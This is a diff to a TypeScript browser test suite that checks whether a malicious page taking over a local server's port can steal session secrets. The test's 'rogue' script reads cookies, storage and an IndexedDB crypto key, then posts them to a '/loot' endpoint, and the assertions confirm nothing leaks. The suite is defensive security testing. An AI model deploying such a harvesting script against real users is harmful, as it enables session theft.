@@ -30,6 +30,15 @@ const rogue = `
       socket.onerror = () => done('refused')
     })
     found.page = await fetch('http://127.0.0.1:' + target + '/', { credentials: 'include' }).then(it => it.text(), () => 'refused')
+    found.key = await new Promise(done => {
+      const opening = indexedDB.open('session')
+      opening.onsuccess = () => {
+        const database = opening.result
+        if (!database.objectStoreNames.contains('session')) return done('none')
+        const asked = database.transaction('session').objectStore('session').get('session')
+        asked.onsuccess = () => crypto.subtle.exportKey('raw', asked.result.key).then(() => done('read'), it => done(it.name))
+      }
+    })
     await fetch('/loot', { method: 'POST', body: JSON.stringify(found) })
   }) + ')(' + target + ')</script>'
   const server = createServer((request, response) => {
@@ -60,6 +69,8 @@ interface Loot {
   readonly hash: string
   readonly opened: string
   readonly page: string
+  /** Of the session: `none`, `read`, or why it couldn't be read. */
+  readonly key: string
 }
 interface Printed {
   readonly kind: 'port' | 'headers' | 'message' | 'loot'
@@ -92,14 +103,27 @@ describeWhere(
     context = await browser.newContext()
     page = await context.newPage()
     link = server.link()
+    const welcomed = welcome(page)
     await page.goto(link)
     await page.getByRole('heading', { name: 'Choose a workspace' }).waitFor()
-    session = JSON.parse(await page.evaluate(() => localStorage.getItem('session') ?? '')) as Session
+    session = await welcomed
   })
   afterEach(async () => {
     await context.close()
     await server.remove()
   })
+
+  /** What the page is told once, when it signs in. */
+  const welcome = (of: Page): Promise<Session> =>
+    new Promise(done => {
+      of.once('websocket', socket =>
+        socket.on('framereceived', ({ payload }) => {
+          if (!String(payload).includes('"key"')) return
+          const { session: id, key } = JSON.parse(String(payload)) as { session: string; key: string }
+          done({ id, key })
+        }),
+      )
+    })
 
   /** What a rogue gets until its page reports. */
   async function starts(port: number, address = '127.0.0.1') {
@@ -138,6 +162,7 @@ describeWhere(
         hash: '',
         opened: 'refused',
         page: 'refused',
+        key: 'none',
       } satisfies Loot)
       expect(JSON.stringify(all)).not.toContain(session.key)
       expect(JSON.stringify(all)).not.toContain(tokenIn(link))
@@ -161,6 +186,7 @@ describeWhere(
       hash: '',
       opened: 'refused',
       page: 'refused',
+      key: 'none',
     } satisfies Loot)
     await later.close()
   })
@@ -180,12 +206,14 @@ describeWhere(
     await page.reload() // now it is the rogue's page, in the origin that ours had
     const { last: loot } = await successor.until('loot')
     expect((loot as Loot).cookie).toBe('')
-    const stolen = JSON.parse((loot as Loot).storage['session'] ?? '') as Session
+    expect(JSON.stringify(loot)).not.toContain(session.key)
+    expect((loot as Loot).key).toBe('InvalidAccessError') // there is one, which can't be read
     await successor.running.stop()
 
     const next = await startServer({ port })
     expect(next.port).toBe(port)
-    for (const attempt of [stolen, last as object, { token: stolen.key }, { token: tokenIn(link) }])
+    // even had they read everything on the wire
+    for (const attempt of [session, last as object, { token: session.key }, { token: tokenIn(link) }])
       expect(await signIn(next.socket(), attempt)).toBe(4401)
     await next.remove()
   })
